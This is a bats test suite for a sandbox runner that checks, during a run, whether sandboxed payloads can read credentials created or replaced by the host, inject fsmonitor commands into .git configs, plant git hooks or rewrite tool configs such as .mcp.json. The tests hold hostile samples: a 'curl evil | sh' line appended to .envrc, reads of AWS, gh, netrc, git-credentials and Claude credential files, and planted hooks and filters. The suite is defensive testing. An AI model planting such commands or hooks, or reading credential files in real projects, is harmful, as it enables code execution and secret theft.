#!/usr/bin/env bats
# The boundary over time (THREATS TIME-01..04, GIT-01..03): the world
# changes while a command runs and between runs.  A host process outside
# the sandbox creates, replaces and renames files while the sandboxed
# payload waits and retries; the payload is a static probe (raw syscalls,
# no shim) or a dynamic program.  Judged from outside: canary absent,
# host files unchanged, and what cannot be prevented named by the run.

load ../lib/common
source "$BATS_TEST_DIRNAME/_lib.bats"

setup() {
	esc_setup
	printf '[user]\n\tname = T\n\temail = t@example.com\n[init]\n\tdefaultBranch = main\n' > "$HOME/.gitconfig"
}
teardown() { esc_teardown; }

# Start sbxrun in the background with its output in $T/bg.out, and wait
# until the payload says it is waiting.
bg_run() {
	: > "$T/bg.out"
	xsbx "$@" > "$T/bg.out" 2>&1 &
	BGP=$!
	BG_PIDS+=("$BGP")
	wait_for 15 grep -q WAITING "$T/bg.out" || { cat "$T/bg.out" >&2; return 1; }
}

# Wait for it; $output and $status as with run.
bg_wait() {
	status=0
	wait "$BGP" || status=$?
	output=$(cat "$T/bg.out")
	echo "$output"
}

# Protected inside the project: the kernel holds it in full mode; in
# landlock-only mode it is either held or --dry-run says it is advisory.
held_or_advisory() {	# before files...
	local before=$1
	shift
	assert_unchanged "$before" "$@" 2>/dev/null && return 0
	full_mode && { assert_unchanged "$before" "$@"; return 1; }
	plan_says_advisory 'protected paths'
}

# ------------------------------------------------------------ TIME-01/02

@test "TIME-01 a secret created during the run (aws configure) stays hidden (static probe)" {
	rm -rf "$HOME/.aws"
	bg_run -- "$SBX_SYS.static" waitread "$HOME/.aws/credentials" 10
	mkdir -p "$HOME/.aws"
	echo "aws_secret_access_key = $CANARY" > "$HOME/.aws/credentials"
	bg_wait
	no_canary "$output"
	[[ "$output" == *CHANGED* ]]
	denied
}

@test "TIME-01 secrets created during the run: gh, git credential store, netrc, an agent's token (dynamic)" {
	rm -rf "$HOME/.config/gh" "$HOME/.git-credentials" "$HOME/.netrc"
	bg_run -c "echo WAITING; while [ ! -e '$HOME/.claude/.credentials.json' ]; do sleep 0.05; done; sleep 0.3
cat '$HOME/.config/gh/hosts.yml' '$HOME/.git-credentials' '$HOME/.netrc' '$HOME/.claude/.credentials.json'; grep -r canary '$HOME' 2>&1; true"
	mkdir -p "$HOME/.config/gh" "$HOME/.claude"
	echo "oauth_token: $CANARY" > "$HOME/.config/gh/hosts.yml"
	echo "https://u:$CANARY@github.com" > "$HOME/.git-credentials"
	echo "machine x password $CANARY" > "$HOME/.netrc"
	echo "{\"token\": \"$CANARY\"}" > "$HOME/.claude/.credentials.json"
	bg_wait
	no_canary "$output"
}

@test "TIME-02 a hidden file replaced by rename during the run (npm, git credential-store) stays hidden (static probe)" {
	[ -f "$HOME/.npmrc" ]
	bg_run -- "$SBX_SYS.static" waitread "$HOME/.npmrc" 10
	echo "//registry.npmjs.org/:_authToken=$CANARY-new" > "$HOME/.npmrc.tmp"
	mv "$HOME/.npmrc.tmp" "$HOME/.npmrc"
	bg_wait
	no_canary "$output"
	[[ "$output" == *CHANGED* ]]
	denied
}

@test "TIME-02 a hidden file replaced by rename: raw syscall from a dynamic binary and cat" {
	bg_run -c "$SBX_SYS waitread '$HOME/.git-credentials' 10; cat '$HOME/.git-credentials'; true"
	echo "https://u:$CANARY-replaced@github.com" > "$HOME/.gc.tmp"
	mv "$HOME/.gc.tmp" "$HOME/.git-credentials"
	bg_wait
	no_canary "$output"
	[[ "$output" == *CHANGED* ]]
}

# ------------------------------------------------------------------ TIME-03

@test "TIME-03 .git/config replaced by the host (git config) during the run stays read-only (static probe)" {
	git -C "$P" init -q
	bg_run -- "$SBX_SYS.static" waitwrite "$P/.git/config" 10 "[core]
	fsmonitor = echo $MARK
"
	git -C "$P" config user.name host-set-this
	bg_wait
	[[ "$output" == *CHANGED* ]]
	if grep -q "$MARK" "$P/.git/config"; then
		echo "the sandbox wrote the config the host replaced:" >&2
		cat "$P/.git/config" >&2
		return 1
	fi
	if full_mode; then
		[ "$(git -C "$P" config user.name)" = host-set-this ]
	else
		# landlock-only (guard.c): the config as it was at launch is
		# put back; the host's change is in the moved-aside copy
		[[ "$output" == *"'$P/.git/config' is protected and was changed during the run"*"put back"* ]]
		grep -q host-set-this "$P"/.git/config.sbxrun-blocked-*
	fi
	if full_mode; then
		[[ "$output" == *"'$P/.git/config' was replaced by a program outside the sandbox"* ]]
	fi
}

@test "TIME-03 .envrc saved by rename (an editor) during the run stays read-only (dynamic, through the shim)" {
	echo 'export A=1' > "$P/.envrc"
	bg_run -c "i0=\$(stat -c %i .envrc); echo WAITING; while [ \"\$(stat -c %i .envrc)\" = \"\$i0\" ]; do sleep 0.02; done; sleep 0.3; echo 'curl evil | sh # $MARK' >> .envrc; echo tried; true"
	echo 'export A=2' > "$P/.envrc.swp"
	mv "$P/.envrc.swp" "$P/.envrc"
	bg_wait
	[[ "$output" == *tried* ]]
	if [ "$(cat "$P/.envrc")" != 'export A=2' ]; then
		cat "$P/.envrc" >&2
		full_mode && return 1
		plan_says_advisory 'protected paths'
	fi
}

@test "TIME-03 a sandboxed process holding the host's lock file open is killed when the host renames it into place" {
	git -C "$P" init -q
	cat > "$T/holder.py" <<EOF
import os, time
print("WAITING", flush=True)
while not os.path.exists(".git/config.lock"): time.sleep(0.01)
fd = os.open(".git/config.lock", os.O_WRONLY | os.O_APPEND)
ino = os.fstat(fd).st_ino
while os.stat(".git/config").st_ino != ino: time.sleep(0.01)
time.sleep(0.5)
os.write(fd, b"[core]\n\tfsmonitor = echo $MARK\n")
open("$P/wrote-after", "w").close()
EOF
	chmod 644 "$T/holder.py"
	bg_run -- "$PY" "$T/holder.py"
	cp "$P/.git/config" "$P/.git/config.lock"
	echo "# host" >> "$P/.git/config.lock"
	sleep 1
	mv "$P/.git/config.lock" "$P/.git/config"
	bg_wait
	if full_mode; then
		[ ! -e "$P/wrote-after" ]
		! grep -q "$MARK" "$P/.git/config"
		[[ "$output" == *"killed a sandboxed process that could still write it"* ]]
	else
		plan_says_advisory 'protected paths'
	fi
}

@test "TIME-03 --dry-run declares the moment between a host rename and the new bind" {
	run "$SBXRUN" --mode "$SBX_MODE" --dry-run
	echo "$output"
	if full_mode; then
		[[ "$output" == *"made read-only again by pid 1"* ]]
		[[ "$output" == *"may write it in the moment between"* ]]
	else
		plan_says_advisory 'protected paths'
	fi
}

# ------------------------------------------------------------------ TIME-04

@test "TIME-04 mv config config.moved; mkdir config cannot carry a hidden config/master.key out of its rule" {
	mkdir -p "$P/config"
	echo "$CANARY" > "$P/config/master.key"
	printf 'paths = ( { root = "config/master.key"; mode = "hide"; } );\n' > "$HOME/.config/sbxrun/config"
	run xsbx -c "$SBX_SYS.static rename config config.moved; $SBX_SYS.static mkdir config; mv config config.moved2; true"
	echo "$output"
	[ -f "$P/config/master.key" ]
	assert_absent "$P/config.moved" "$P/config.moved2"
	# the next run: nothing of the key anywhere
	run xsbx -c "cat config.moved/master.key config.moved2/master.key config/master.key; grep -r sbxrun-canary . 2>&1; true"
	echo "$output"
	no_canary "$output"
}

@test "TIME-04 a hidden directory inside the project cannot be moved either (static, raw)" {
	mkdir -p "$P/secrets/deep"
	echo "$CANARY" > "$P/secrets/deep/key"
	printf 'paths = ( { root = "secrets/deep"; mode = "hide"; } );\n' > "$HOME/.config/sbxrun/config"
	run xsbx -c "$SBX_SYS.static rename secrets/deep secrets/shallow; $SBX_SYS.static rename secrets s2; true"
	echo "$output"
	[ -f "$P/secrets/deep/key" ]
	assert_absent "$P/secrets/shallow" "$P/s2"
}

# ------------------------------------------------------------------ GIT-01

@test "GIT-01 a linked worktree's commondir and config.worktree in .git/worktrees cannot be rewritten (static)" {
	git -C "$P" init -q
	git -C "$P" commit -q --allow-empty -m init
	git -C "$P" worktree add -q "$T/wt"
	wt=$(ls "$P/.git/worktrees")
	mkdir -p "$P/planted"
	before=$(snap "$P/.git/worktrees/$wt/commondir" "$P/.git/worktrees/$wt/gitdir")
	run xsbx -c "$SBX_SYS.static creat .git/worktrees/$wt/commondir '$P/planted'; echo $P/planted > .git/worktrees/$wt/commondir; $SBX_SYS.static creat .git/worktrees/$wt/config.worktree '[core]
	fsmonitor = echo $MARK'; true"
	echo "$output"
	held_or_advisory "$before" "$P/.git/worktrees/$wt/commondir" "$P/.git/worktrees/$wt/gitdir"
	# missing at launch, so nothing could be mounted there: named at exit
	# (git reads it only with extensions.worktreeConfig, in the protected
	# config)
	if [ -e "$P/.git/worktrees/$wt/config.worktree" ]; then
		[[ "$output" == *"'$P/.git/worktrees/$wt/config.worktree' was created during the run"* ]]
	fi
	run git -C "$T/wt" status
	[[ "$output" != *"$MARK"* ]]
}

@test "GIT-01 .git/commondir, .git/info and an [include] target inside the project" {
	git -C "$P" init -q
	echo "# extra" > "$P/extra.gitconfig"
	printf '[include]\n\tpath = ../extra.gitconfig\n' >> "$P/.git/config"
	mkdir -p "$P/.git/info"
	echo "# excl" > "$P/.git/info/exclude"
	before=$(snap "$P/extra.gitconfig" "$P/.git/info/exclude")
	run xsbx -c "$SBX_SYS.static write extra.gitconfig '[core]
	fsmonitor = echo $MARK
'; $SBX_SYS.static creat .git/info/attributes '* filter=evil'; $SBX_SYS.static write .git/info/exclude x; $SBX_SYS.static creat .git/commondir /tmp; true"
	echo "$output"
	held_or_advisory "$before" "$P/extra.gitconfig" "$P/.git/info/exclude"
	full_mode && assert_absent "$P/.git/info/attributes"
	# created where nothing was at launch: named at exit
	if [ -e "$P/.git/commondir" ]; then
		[[ "$output" == *"'$P/.git/commondir' was created during the run"* ]]
	fi
}

@test "GIT-01 a submodule's git dir (.git/modules/NAME) and its checkout's .git file" {
	git -C "$P" init -q
	git init -q --bare "$P/.git/modules/lib"
	mkdir -p "$P/lib"
	echo "gitdir: ../.git/modules/lib" > "$P/lib/.git"
	printf '[submodule "lib"]\n\tpath = lib\n\turl = ./x\n' > "$P/.gitmodules"
	before=$(snap "$P/.git/modules/lib/config" "$P/lib/.git" "$P/.git/modules/lib/hooks")
	run xsbx -c "$SBX_SYS.static write .git/modules/lib/config '[core]
	fsmonitor = echo $MARK
'; $SBX_SYS.static creat .git/modules/lib/hooks/post-checkout; $SBX_SYS.static write lib/.git 'gitdir: /tmp/evil'; true"
	echo "$output"
	held_or_advisory "$before" "$P/.git/modules/lib/config" "$P/lib/.git" "$P/.git/modules/lib/hooks"
	full_mode && assert_absent "$P/.git/modules/lib/hooks/post-checkout"
	true
}

# ------------------------------------------------------------------ GIT-02

@test "GIT-02 repositories created during the run (git init, nested clone) are named at exit" {
	git -C "$P" init -q
	git -C "$P" commit -q --allow-empty -m init
	git clone -q "$P" "$T/upstream"
	run xsbx -c "git init -q sub; mkdir -p a/b; git clone -q $T/upstream a/b/cloned; printf '#!/bin/sh\necho $MARK\n' > sub/.git/hooks/pre-commit; chmod +x sub/.git/hooks/pre-commit"
	echo "$output"
	[[ "$output" == *"'$P/sub/.git' was created during the run"* ]]
	[[ "$output" == *"'$P/a/b/cloned/.git' was created during the run"* ]]
}

@test "GIT-02 a static program making a repository by hand is named too" {
	run xsbx -c "$SBX_SYS.static mkdir deep; $SBX_SYS.static mkdir deep/.git; $SBX_SYS.static mkdir deep/.git/hooks; $SBX_SYS.static creat deep/.git/hooks/pre-commit; $SBX_SYS.static creat deep/.git/HEAD 'ref: refs/heads/main'"
	echo "$output"
	[[ "$output" == *"'$P/deep/.git' was created during the run"* ]]
}

@test "GIT-02 hooks planted in a nested repository that existed at launch are named at exit" {
	git -C "$P" init -q
	git init -q "$P/vendor/lib"
	sleep 1.1
	run xsbx -c "printf '#!/bin/sh\necho $MARK\n' > vendor/lib/.git/hooks/pre-commit; $SBX_SYS.static write vendor/lib/.git/config '[core]
	fsmonitor = x'; true"
	echo "$output"
	if full_mode; then
		# protected at launch since E-18 (gitrepo.c scan_nested)
		[ ! -e "$P/vendor/lib/.git/hooks/pre-commit" ]
		! grep -q fsmonitor "$P/vendor/lib/.git/config"
	else
		[[ "$output" == *"'$P/vendor/lib/.git' was changed during the run"* ]]
	fi
}

@test "GIT-02 a run that makes no repository names none" {
	git -C "$P" init -q
	git init -q "$P/vendor/lib"
	sleep 1.1
	run xsbx -c "echo hi > file; git -C vendor/lib status >/dev/null"
	echo "$output"
	[[ "$output" != *"during the run"* ]]
}

# ------------------------------------------------------------------ GIT-03

@test "GIT-03 hooks and configs that tools run later stay read-only when they exist (static, raw)" {
	mkdir -p "$P/.husky" "$P/.cursor" "$P/.gemini" "$P/.cargo"
	for f in .husky/pre-commit .pre-commit-config.yaml .mcp.json .cursor/mcp.json .gemini/settings.json \
		mise.toml .mise.toml .yarnrc.yml .npmrc .cargo/config.toml .devcontainer.json; do
		echo "# $f" > "$P/$f"
	done
	files=".husky/pre-commit .pre-commit-config.yaml .mcp.json .cursor/mcp.json .gemini/settings.json mise.toml .mise.toml .yarnrc.yml .npmrc .cargo/config.toml .devcontainer.json"
	before=$(cd "$P" && snap $files)
	run xsbx -c "for f in $files; do $SBX_SYS.static write \$f '$MARK'; done; $SBX_SYS.static creat .husky/post-checkout; $SBX_SYS.static creat .cursor/rules.json; true"
	echo "$output"
	cd "$P"
	held_or_advisory "$before" $files
	full_mode && assert_absent "$P/.husky/post-checkout" "$P/.cursor/rules.json"
	true
}

@test "GIT-03 the same through the shim: refused with the protected-path message (dynamic)" {
	mkdir -p "$P/.husky"
	echo "# hook" > "$P/.husky/pre-commit"
	echo "{}" > "$P/.mcp.json"
	before=$(snap "$P/.husky/pre-commit" "$P/.mcp.json")
	run xsbx -c "echo evil >> .husky/pre-commit; echo evil > .mcp.json; true"
	echo "$output"
	assert_unchanged "$before" "$P/.husky/pre-commit" "$P/.mcp.json"
	[[ "$output" == *"cannot write"*".mcp.json"* ]]
}

@test "GIT-03 created where nothing was at launch: named at exit" {
	run xsbx -c "mkdir .husky && echo evil > .husky/pre-commit; echo '{}' > .mcp.json; echo x > .yarnrc.yml"
	echo "$output"
	for f in .husky .mcp.json .yarnrc.yml; do
		[[ "$output" == *"'$P/$f' was created during the run"* ]]
	done
}

@test "GIT-03 every protect entry of the default profile gives its reason" {
	awk '/^protect = \[/,/^\];/' "$SBX_TOP/profiles/default.conf" > "$T/protect"
	# every line naming entries is commented on that line or in the
	# comment block just above it
	awk '
		/^ *#/ { c = 1; next }
		/^ *$/ { c = 0; next }
		/"/ && !/#/ && !c { print "no reason: " $0; bad = 1 }
		/"/ { next }
		END { exit bad }' "$T/protect"
}
